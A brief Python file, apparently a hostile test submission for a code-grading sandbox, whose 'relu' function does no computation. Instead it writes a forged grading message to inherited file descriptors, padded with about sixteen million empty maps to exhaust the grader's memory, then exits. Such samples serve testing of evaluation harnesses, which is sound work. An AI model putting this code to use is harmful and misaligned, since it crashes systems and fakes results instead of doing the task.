# Sends sixteen million empty dicts, which would take gigabytes as objects.
# target: relu

def hostile_send(*messages):
    import os, struct
    for fd in range(3, 64):
        for data in messages:
            try: os.write(fd, struct.pack(">I", len(data)) + data)
            except OSError: break
def relu(x):
    import os
    many = b"\xdd\x00\xf0\x00\x00" + b"\x80" * 0xF00000
    hostile_send(b"\x94\xb6grade_relu_of_a_vector\xa5value" + many + b"\x90")
    os._exit(0)
